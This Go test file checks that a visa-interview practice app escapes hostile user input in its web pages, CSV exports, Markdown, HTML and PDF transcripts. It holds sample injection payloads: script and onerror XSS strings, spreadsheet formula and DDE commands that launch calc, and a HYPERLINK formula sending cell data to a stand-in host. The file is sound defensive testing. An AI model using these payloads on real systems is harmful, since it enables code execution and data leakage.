package main

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"github.com/viceconsul/viceconsul/interview/transcript"
)

// hostile are words that do harm where they are taken for anything but text. Each begins
// with a word of its own, or with the sign that does the harm.
var hostile = []string{
	`Markup <img src=x onerror="window.harmed=1"><script>window.harmed=1</script></textarea></title> &lt;b&gt; "'`,
	`Template {{.}} {{template "x"}} ${window.harmed=1} javascript:window.harmed=1`,
	"Bidi \u202Egnp.exe\u202C \u2067one\u2069 \u200Ftwo\u200E \u061Cthree",
	"Marks e" + strings.Repeat("\u0301", 4000),
	"[Markdown](javascript:window.harmed=1) ![x](http://192.0.2.1/x) `code` <http://192.0.2.1/> | a | b | ~~c~~ \\",
	`=HYPERLINK("http://192.0.2.1/?"&A1,"Formula")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"-2+3",
}

// hostilePack has officers say such words.
const hostilePack = `group: HOSTILE
title: "=HYPERLINK(\"http://192.0.2.1/\",\"Ours\")"
topics:
  - id: hostile.words
    title: "<script>window.harmed=1</script> <b>words</b>"
    applies_to: [F1]
    tests: "=1+1"
    strong: "@SUM(1)"
    red_flags: ["+1", "-1", "<img src=x onerror=window.harmed=1>"]
    ground: 214(b)
    follow_up: {vague: "<i>Which</i>?", long: none, contradiction: none, risky: none}
    questions:
      - {id: HO1, ask: "=cmd|' /C calc'!A0 <img src=x onerror=window.harmed=1> Why, **sir**?", type: closed, fields: [trip.purpose]}
`

const hostileLine = "=cmd|' /C calc'!A0 <img src=x onerror=window.harmed=1> Why, **sir**?"

// Hostile words of the officer, the answers and the profile arrive as the text they are,
// wherever they are shown or leave the server.
func TestHostileWordsAreText(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	pack := filepath.Join(t.TempDir(), "hostile.yaml")
	if err := os.WriteFile(pack, []byte(hostilePack), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := ran(t, "", "bank", "import", pack, "--data", data); code != exitFine {
		t.Fatalf("bank import: %s", errs)
	}
	checkSheet(t, data)
	s := newServer(t, "VICECONSUL_DATA="+data, "DATABASE_URL=")
	b := newTab(t)
	complaints := b.complaints(s.address)
	b.hurry(s.address)
	b.hostileFields(s.address)
	b.hostileOnce(s.address)
	id := b.hostileInterview(s.address)
	b.hostileAnswers(s.address, id)
	b.hostileExports(t, id)
	if all := complaints(); len(all) > 0 {
		t.Errorf("the pages complain: %.2000q", all)
	}
}

// checkSheet exports the pack for a spreadsheet and reads it as one.
func checkSheet(t *testing.T, data string) {
	t.Helper()
	_, out, _ := ran(t, "", "bank", "export", "HOSTILE", "--format", "csv", "--data", data)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
		for _, cell := range row {
			if strings.IndexAny(cell, "=+-@\t\r") == 0 {
				t.Errorf("a spreadsheet would reckon %q", cell)
			}
		}
	}
	for _, want := range []string{"'" + hostileLine, "'=1+1", "'@SUM(1)"} {
		if !slices.Contains(cells, want) {
			t.Errorf("no cell %q among %q", want, cells)
		}
	}
}

// unharmed ends with an error when a script ran on the page that is open.
func (b *tab) unharmed() {
	b.t.Helper()
	if value[bool](b, `"harmed" in window`) {
		b.t.Errorf("a script ran on %s", value[string](b, "location.href"))
	}
}

// texts are the texts of what a selector finds, without the numbers of notes.
func (b *tab) texts(selector string) []string {
	b.t.Helper()
	return value[[]string](b, fmt.Sprintf(`[...document.querySelectorAll(%q)].map((found) => {
		const words = found.cloneNode(true)
		for (const extra of words.querySelectorAll(".ref")) extra.remove()
		return found.matches("input, textarea") ? found.value : words.textContent
	})`, selector))
}

// finds wants each text to be the whole text of something that the selector finds.
func (b *tab) finds(selector string, wanted ...string) {
	b.t.Helper()
	b.unharmed()
	found := b.texts(selector)
	for _, want := range wanted {
		if !slices.Contains(found, want) {
			b.t.Errorf("%s: no %s says %.200q, among %.2000q", value[string](b, "location.pathname"), selector, want, found)
		}
	}
}

// asks wants one of what the selector finds to end with the officer's hostile line: a word
// of courtesy may come before it.
func (b *tab) asks(selector string) {
	b.t.Helper()
	if found := b.texts(selector); !slices.ContainsFunc(found, func(line string) bool { return strings.HasSuffix(line, hostileLine) }) {
		b.t.Errorf("%s: no %s asks %q, among %.2000q", value[string](b, "location.pathname"), selector, hostileLine, found)
	}
}

const longestFact = 1000 // code points; the page says so of a longer one

// hostileFields types into the profile and the private pages, and reads them again.
func (b *tab) hostileFields(address string) {
	b.t.Helper()
	for _, page := range []struct {
		path  string
		names []string
	}{
		{"/profile/f1", []string{"f1.school", "f1.campus", "f1.major", "employment.title", "employment.employer", "education.institutions", "f1.schools_applied", "family.members_abroad", "trip.purpose"}},
		{"/story/f1", nil},
		{"/refusal/f1", nil},
	} {
		b.do("open "+page.path, chromedp.Navigate(address+page.path))
		names := page.names
		if names == nil {
			names = value[[]string](b, `[...document.querySelectorAll("main textarea")].map((field) => field.name)`)
		}
		var typed []string
		b.do("open every section", chromedp.Evaluate(`document.querySelectorAll("main details").forEach((d) => (d.open = true))`, nil))
		for i, name := range names[:min(len(names), len(hostile))] {
			field := fmt.Sprintf(`[name=%q]`, name)
			if !value[bool](b, fmt.Sprintf(`Boolean(document.querySelector('main :is(input, textarea)%s'))`, field)) {
				continue
			}
			text := []rune(hostile[i])
			text = text[:min(len(text), longestFact)]
			typed = append(typed, string(text))
			b.do("write into "+name, chromedp.Focus(field), input.InsertText(string(text)))
		}
		b.leave("main", func() { b.do("save", chromedp.Click(`.profile__bar .button`)) })
		b.do("read it again", chromedp.Navigate(address+page.path))
		b.finds("main :is(input, textarea)", typed...)
		if len(typed) < 4 {
			b.t.Errorf("%s took %d texts", page.path, len(typed))
		}
	}
	b.do("check the case", chromedp.Navigate(address+"/case/f1"))
	b.unharmed()
}

// hostileOnce answers the pages that keep nothing.
func (b *tab) hostileOnce(address string) {
	b.t.Helper()
	for _, path := range []string{"/try?visa=f1", "/drills/f1/numbers"} {
		text := strings.Join(hostile, " ")
		b.do("open "+path, chromedp.Navigate(address+path), chromedp.Focus("#answer"), input.InsertText(text))
		b.do("check it", chromedp.Click(`main form[method="post"] button[type="submit"]`), chromedp.WaitVisible("#graded", chromedp.ByQuery))
		b.finds(".turn__answer", text)
	}
}

// hostileInterview answers with every hostile text, and then plainly to the end.
func (b *tab) hostileInterview(address string) string {
	b.t.Helper()
	declared, err := json.Marshal(map[string]any{
		"f1": map[string]string{"school": hostile[0], "major": hostile[1], "campus": hostile[5]}, "employment": map[string]string{"employer": hostile[2], "title": hostile[4]},
	})
	if err != nil {
		b.t.Fatal(err)
	}
	b.start(address, fmt.Sprintf(`{"category":"F-1","minutes":20,"officer":{"seed":7,"patient":true},"profile":%s}`, declared))
	var typed []string
	for turn := 0; ; {
		r := b.await("the next line", func(r room) bool { return r.Over || r.Ready && r.Turn > turn })
		if r.Over {
			break
		}
		turn = r.Turn
		text := fmt.Sprintf("My father pays for it, this is answer %d.", turn)
		if len(typed) < len(hostile) {
			text = hostile[len(typed)]
		}
		typed = append(typed, text)
		b.do("answer", chromedp.Focus("#answer"), input.InsertText(text), chromedp.Click(`.composer button[type="submit"]`))
	}
	if len(typed) < len(hostile) {
		b.t.Errorf("the officer took %d answers, of %d hostile ones", len(typed), len(hostile))
	}
	b.finds(".said--applicant .said__text", typed...)
	b.asks(".said--officer .said__text")
	return strings.Split(value[string](b, "location.pathname"), "/")[2]
}

// hostileAnswers reads the interview on every page that shows it.
func (b *tab) hostileAnswers(address, id string) {
	b.t.Helper()
	answers := hostile[:min(len(hostile), len(b.texts(".said--applicant")))]
	b.do("read the transcript", chromedp.Navigate(address+"/interviews/"+id+"/transcript"))
	b.finds(".turn__answer", answers...)
	b.asks(".turn__question [lang=en]")
	b.do("see the progress", chromedp.Navigate(address+"/progress?visa=f1"))
	b.unharmed()
	b.do("compare", chromedp.Navigate(address+"/compare?a="+id+"&b="+id))
	b.asks(".compare p[lang=en]")
	for _, answer := range answers {
		b.finds(".compare p[lang=en]", "“"+answer+"”")
	}
}

// hostileExports fetches what leaves the server and reads it as its programs do.
func (b *tab) hostileExports(t *testing.T, id string) {
	t.Helper()
	fetch := func(suffix string) []byte {
		packed := value[string](b, fmt.Sprintf(`fetch("/api/v1/interviews/%s/transcript.%s").then((answer) => answer.arrayBuffer()).then((all) => btoa(Array.from(new Uint8Array(all), (byte) => String.fromCharCode(byte)).join("")))`, id, suffix))
		body, err := base64.StdEncoding.DecodeString(packed)
		if err != nil {
			t.Fatal(err)
		}
		return body
	}
	sealed := fetch("json")
	said, err := transcript.ReadTranscript(sealed)
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{
		"json": wordsOfJSON(t, sealed), "md": wordsOfMarkdown(string(fetch("md"))),
		"html": wordsOfHTML(t, fetch("html")), "pdf": wordsOfPDF(t, fetch("pdf")),
	}
	for _, format := range []string{"text", "markdown", "html", "jsonl"} {
		code, out, errs := ran(t, string(sealed), "grade", "--format", format, "-")
		if code != exitFine {
			t.Fatalf("grade --format %s: %s", format, errs)
		}
		switch format {
		case "markdown":
			out = wordsOfMarkdown(out)
		case "html":
			out = wordsOfHTML(t, []byte(out))
		case "jsonl":
			out = wordsOfJSON(t, []byte(out))
		}
		texts["grade "+format] = out
	}
	for format, text := range texts {
		text = unspaced(text)
		for _, turn := range said.Turns {
			for _, want := range []string{turn.Officer, turn.Applicant} {
				if !strings.Contains(text, unspaced(want)) {
					t.Errorf("%s does not say %.200q", format, want)
				}
			}
		}
	}
}

// unspaced leaves out white space, where formats break lines.
func unspaced(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) {
			return -1
		}
		return r
	}, text)
}

// wordsOfJSON are all strings in it.
func wordsOfJSON(t *testing.T, text []byte) string {
	t.Helper()
	var all strings.Builder
	for d := json.NewDecoder(bytes.NewReader(text)); ; {
		token, err := d.Token()
		if err == io.EOF {
			return all.String()
		}
		if err != nil {
			t.Fatal(err)
		}
		if s, ok := token.(string); ok {
			all.WriteString(s)
		}
	}
}

// wordsOfMarkdown takes the escapes away; what is not escaped and means something in
// Markdown is taken out, so that it is missed.
func wordsOfMarkdown(text string) string {
	return regexp.MustCompile("(?s)\\\\.|[`*_\\[\\]<>&~]").ReplaceAllStringFunc(text, func(mark string) string { return mark[1:] })
}

// wordsOfHTML are the texts of a page that has no script and fetches nothing.
func wordsOfHTML(t *testing.T, page []byte) string {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for n := range root.Descendants() {
		if n.Type == html.TextNode {
			all.WriteString(n.Data)
		}
		if n.Type == html.ElementNode && slices.Contains([]string{"script", "img", "a", "link", "iframe", "textarea"}, n.Data) {
			t.Errorf("the page has <%s>", n.Data)
		}
	}
	return all.String()
}

var (
	pdfStream = regexp.MustCompile(`(?s)stream\n(.*?)\nendstream`)
	pdfShown  = regexp.MustCompile(`(?s)\(((?:\\.|[^\\()])*)\) ?Tj`)
)

// wordsOfPDF are the texts that its pages show. Its font is numbered by Unicode.
func wordsOfPDF(t *testing.T, file []byte) string {
	t.Helper()
	var all strings.Builder
	for _, stream := range pdfStream.FindAllSubmatch(file, -1) {
		r, err := zlib.NewReader(bytes.NewReader(stream[1]))
		if err != nil {
			continue // not packed: no page
		}
		page, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, shown := range pdfShown.FindAllSubmatch(page, -1) {
			all.WriteString(fromUTF16(regexp.MustCompile(`(?s)\\.`).ReplaceAllFunc(shown[1], func(escape []byte) []byte {
				if escape[1] == 'r' {
					return []byte("\r")
				}
				return escape[1:]
			})))
		}
	}
	return all.String()
}

func fromUTF16(text []byte) string {
	var units []uint16
	for pair := range slices.Chunk(text, 2) {
		if len(pair) == 2 {
			units = append(units, uint16(pair[0])<<8|uint16(pair[1]))
		}
	}
	return string(utf16.Decode(units))
}
